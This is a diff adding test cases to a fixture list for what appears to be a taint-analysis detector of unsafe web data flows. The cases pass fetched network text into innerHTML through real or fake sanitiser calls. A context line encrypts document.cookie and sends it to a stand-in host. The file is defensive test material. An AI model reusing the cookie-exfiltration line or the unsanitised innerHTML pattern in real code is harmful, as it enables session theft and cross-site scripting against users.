@@ -380,6 +380,18 @@ const sanitisers: readonly Twin[] = [
     "fetch('https://a.dev').then((r) => r.text()).then((t) => { box.innerHTML = DOMPurify.sanitize(t) })",
   ],
   [
+    'markup that a library of another file cleans is no markup',
+    'network-response > dom-html',
+    "import p from './p.js'; fetch('https://a.dev').then((r) => r.text()).then((t) => { box.innerHTML = p.render(t) })",
+    "import p from './p.js'; fetch('https://a.dev').then((r) => r.text()).then((t) => { box.innerHTML = p.sanitize(t) })",
+  ],
+  [
+    'markup that a bundled library cleans is no markup',
+    'network-response > dom-html',
+    "const make = () => { const p = () => make(); p.sanitize = (t) => t; return p }; const p = make(); fetch('https://a.dev').then((r) => r.text()).then((t) => { box.innerHTML = p.sanitize(t) })",
+    "const make = () => { const p = () => make(); p.sanitize = (t) => t; p.removeAllHooks = () => {}; return p }; const p = make(); fetch('https://a.dev').then((r) => r.text()).then((t) => { box.innerHTML = p.sanitize(t) })",
+  ],
+  [
     'digests tell nothing',
     theft,
     "crypto.subtle.encrypt({}, k, document.cookie).then((d) => fetch('https://in.a.dev', { body: d }))",
